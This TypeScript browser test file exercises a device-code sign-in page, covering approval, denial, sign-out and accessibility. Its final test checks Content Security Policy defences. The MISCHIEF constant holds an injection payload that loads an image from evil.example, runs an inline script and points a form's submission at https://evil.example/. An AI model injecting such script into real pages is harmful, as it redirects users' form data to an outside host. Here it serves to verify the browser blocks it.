import { ApiProcess } from '../kit/api-process';
import {
  BROWSER_PATIENCE_MS,
  type BrowserVisit,
  Chromium,
  describeInChromium,
  signInByMail,
} from '../kit/chromium';
import { eventually } from '../kit/eventually';

/** What an attacker would have the page do who got markup into it. */
const MISCHIEF = `
  document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png"><b style="color:red">x</b>');
  const script = document.createElement('script');
  script.textContent = 'document.title = "run"';
  document.body.append(script);
  const form = document.querySelector('form');
  form.action = 'https://evil.example/';
  form.noValidate = true;
  form.submit();
`;

describeInChromium('the device page in a browser', () => {
  let api: ApiProcess;
  let chromium: Chromium;

  beforeAll(async () => {
    api = await ApiProcess.start({ RATE_LIMIT_IP_PER_MINUTE: '0' });
    chromium = await Chromium.launch();
  }, BROWSER_PATIENCE_MS);
  afterAll(async () => {
    await chromium.close();
    await api.stop();
  });

  const post = async (path: string, body: object): Promise<Record<string, string>> => {
    const headers = { 'content-type': 'application/json', 'user-agent': 'crewkit-cli/0.1 (linux; x64)' };
    const answer = await fetch(`${api.url}/api/v1${path}`, {
      method: 'POST',
      headers,
      body: JSON.stringify(body),
    });
    return (await answer.json()) as Record<string, string>;
  };
  const startDevice = (): Promise<Record<string, string>> =>
    post('/auth/device', { client_id: 'crewkit-cli', client_name: 'crewkit on ada-laptop' });

  const visit = (width: number, colorScheme: 'light' | 'dark'): Promise<BrowserVisit> =>
    chromium.visit({ width, colorScheme });

  it.each([
    [900, 'light'],
    [900, 'dark'],
    [320, 'light'],
    [320, 'dark'],
  ] as const)(
    'signs in and approves, %d pixels wide, %s',
    async (width, scheme) => {
      const device = await startDevice();
      const visited = await visit(width, scheme);
      const { page, look } = visited;
      await page.goto(device.verification_uri_complete!);
      await signInByMail(visited, `ada-${width}-${scheme}@example.com`);

      expect(await page.getByLabel('Code').inputValue()).toBe(device.user_code);
      await look('code');
      await page.getByLabel('Code').fill('BBBB-BBBB');
      await page.getByRole('button', { name: 'Continue' }).click();
      expect(await page.getByRole('alert').textContent()).toContain('No device is waiting');
      expect(await page.getByLabel('Code').getAttribute('aria-describedby')).toBe('problem');
      await look('code-problem');
      await page.getByLabel('Code').fill(device.user_code!.toLowerCase());
      await page.keyboard.press('Enter');

      await page.getByRole('heading', { name: 'Approve this device?' }).waitFor();
      await look('decision');
      const [deny, approve] = [
        page.getByRole('button', { name: 'Deny' }),
        page.getByRole('button', { name: 'Approve' }),
      ];
      const [small, large] = [(await deny.boundingBox())!, (await approve.boundingBox())!];
      expect([small.width, small.height]).toEqual([large.width, large.height]);
      await deny.focus();
      await page.keyboard.press('Tab');
      expect(await page.evaluate('document.activeElement.textContent')).toBe('Approve');
      await page.keyboard.press('Enter');

      await page.getByRole('heading', { name: 'Approved' }).waitFor();
      await look('approved');
      expect(await post('/auth/token', { device_code: device.device_code! })).toMatchObject({
        token_type: 'Bearer',
      });
      expect(visited.violations).toEqual([]);
    },
    BROWSER_PATIENCE_MS,
  );

  it(
    'denies, and signs out',
    async () => {
      const device = await startDevice();
      const visited = await visit(900, 'light');
      const { page, look } = visited;
      await page.goto(`${api.url}/auth/verify?user_code=${device.user_code}`);
      await signInByMail(visited, 'grace@example.com');
      await page.getByRole('button', { name: 'Continue' }).click();
      await page.getByRole('button', { name: 'Deny' }).click();
      await page.getByRole('heading', { name: 'Denied' }).waitFor();
      await look('denied');
      expect(await post('/auth/token', { device_code: device.device_code! })).toMatchObject({
        error: 'access_denied',
      });
      await page.getByRole('link', { name: 'crewkit' }).click();
      await look('account');
      await page.getByRole('button', { name: 'Sign out everywhere else' }).click();
      await page.getByText('0 devices, 0 browsers').waitFor();
      await look('signed-out-everywhere-else');
      await page.getByRole('button', { name: 'Sign out', exact: true }).click();
      await page.getByLabel('E-mail address').waitFor();
      expect(await page.context().cookies()).toEqual([]);
      await page.goto(`${api.url}/sign-in/confirm?token=unknown`);
      await look('unknown-link');
      expect(visited.violations).toEqual([]);
    },
    BROWSER_PATIENCE_MS,
  );

  it(
    'would have noticed a script, a foreign picture and a foreign form',
    async () => {
      const { page, violations } = await visit(900, 'light');
      await page.goto(`${api.url}/sign-in`);
      await page.evaluate(MISCHIEF);
      await eventually('the browser to refuse it', () =>
        violations.some((text) => text.includes('form-action')),
      );
      expect(await page.title()).not.toBe('run');
      for (const directive of ['img-src', 'style-src', 'script-src', 'form-action']) {
        expect(violations.join('\n')).toContain(directive);
      }
    },
    BROWSER_PATIENCE_MS,
  );
});
